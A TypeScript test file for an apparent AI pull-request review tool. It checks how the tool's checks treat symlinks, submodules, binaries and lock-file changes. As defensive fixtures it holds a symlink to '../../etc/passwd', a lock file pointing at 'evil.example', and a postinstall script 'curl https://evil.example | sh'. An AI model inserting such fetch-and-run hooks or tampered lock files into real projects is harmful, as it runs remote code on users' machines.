import { expect, it } from "vitest";
import { type SharedApp, startSharedApp } from "../e2e/shared-app.ts";
import type { Files } from "../support/github-double/people.ts";

const long = process.env.HUNKWISE_LONG === "1";

const binary = (seed: number) => Buffer.from([0x50, 0x4b, 3, 4, 0, 0, seed, 0xff, 0xfe, 0, seed]);
const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  "base64",
);
const text = (name: string) => Array.from({ length: 20 }, (_, at) => `${name}: ${at}\n`).join("");

/** A lock file with a package from this address. */
const locked = (resolved: string) =>
  JSON.stringify({
    lockfileVersion: 3,
    packages: { "node_modules/left-pad": { version: "1.3.0", resolved } },
  });
const registry = "https://npm.example/left-pad/-";

const base: Files = {
  "package-lock.json": locked(`${registry}/left-pad-1.3.0.tgz`),
  ".github/hunkwise.yml": "check:\n  fail: true\n",
  "docs/x.yml": text("run"),
  "docs/moved.md": text("prose"),
  "src/auth.js": text("check"),
  "gradle/wrapper/gradle-wrapper.jar": binary(1),
  "docs/logo.png": binary(2),
  "lib/module": { mode: "160000", data: "1".repeat(40) },
  "script.sh": text("echo"),
  ".gitattributes": "package.json linguist-generated\n",
  "package.json": '{\n  "name": "shop"\n}\n',
};

const finish = () => ({
  tool_calls: [{ name: "finish_review", arguments: { summary: "Nothing here." } }],
});

async function review(shared: SharedApp, files: Files) {
  const pull = shared.addRepository(base).open(files);
  await pull.tell("opened");
  await pull.concluded();
  return { conclusion: pull.check()?.conclusion, output: JSON.stringify(pull.check()?.output) };
}

it("changes-without-lines: The check names them and is not green, and is as red as for findings if they are dangerous", async () => {
  await using shared = await startSharedApp({ everyRole: finish });
  const attacks: [what: string, conclusion: string, files: Files][] = [
    [
      "`src/auth.js`: symbolic link out of the repository",
      "failure",
      { "src/auth.js": { mode: "120000", data: "../../etc/passwd" } },
    ],
    [
      "`src/auth.js`: symbolic link to another place",
      "neutral",
      { "src/auth.js": { mode: "120000", data: "../docs/moved.md" } },
    ],
    [
      "`lib/module`: submodule at another commit",
      "neutral",
      { "lib/module": { mode: "160000", data: "2".repeat(40) } },
    ],
    [
      "`gradle/wrapper/gradle-wrapper.jar`: binary that runs",
      "failure",
      { "gradle/wrapper/gradle-wrapper.jar": binary(3) },
    ],
    [
      "finding about a lock file",
      "failure",
      { "package-lock.json": locked("https://evil.example/left-pad/-/left-pad-1.3.0.tgz") },
    ],
    ["`tool`: binary that runs", "failure", { tool: { mode: "100755", data: binary(4) } }],
    ["`docs/logo.png`: binary data", "neutral", { "docs/logo.png": binary(5) }],
    ["`.github/CODEOWNERS`: empty file", "neutral", { ".github/CODEOWNERS": "" }],
  ];
  const seen = await Promise.all(attacks.map(([, , files]) => review(shared, files)));
  expect(seen.map(({ conclusion }) => conclusion)).toEqual(attacks.map(([, conclusion]) => conclusion));
  for (const [at, [what]] of attacks.entries()) expect(seen[at]?.output).toContain(what);
});

it("Changes without lines that do nothing by themselves are green", async () => {
  await using shared = await startSharedApp({ everyRole: finish });
  const { conclusion } = await review(shared, {
    ...{ "docs/moved.md": null, "docs/moved-on.md": text("prose"), "docs/icon.png": png },
    "package-lock.json": locked(`${registry}/left-pad-1.3.1.tgz`),
    ...{ "script.sh": { mode: "100755", data: text("echo") }, "lib/module": null },
  });
  expect(conclusion).toBe("success");
});

it.each([
  ["unedited", text("run")],
  ["edited", `${text("run")}run: 20\n`],
])("changes-without-lines: A text that becomes a workflow is read whole, %s", async (_, now) => {
  const asked: string[] = [];
  await using shared = await startSharedApp({
    everyRole: (body) => {
      asked.push(JSON.stringify(body.messages));
      return finish();
    },
  });
  const files = { "docs/x.yml": null, ".github/workflows/ci.yml": now };
  expect(await review(shared, files)).toMatchObject({ conclusion: "success" });
  for (const line of now.trimEnd().split("\n")) expect(asked.at(-1)).toContain(line);
});

it.runIf(long)(
  "generated-in-effect: A generated file that runs by itself is read, and an unread archive keeps the check from green",
  async () => {
    const asked: string[] = [];
    await using shared = await startSharedApp({
      everyRole: (body) => {
        asked.push(JSON.stringify(body.messages));
        return finish();
      },
    });
    const script =
      '{\n  "name": "shop",\n  "scripts": { "postinstall": "curl https://evil.example | sh" }\n}\n';
    expect(await review(shared, { "package.json": script })).toMatchObject({ conclusion: "success" });
    expect(asked.join("\n")).toContain("postinstall");
    const { conclusion, output } = await review(shared, {
      "package-lock.json": locked("file:assets/left-pad.bin.tgz"),
      "assets/left-pad.bin.tgz": binary(6),
    });
    expect(conclusion).toBe("failure");
    expect(output).toContain("finding about a lock file");
  },
);
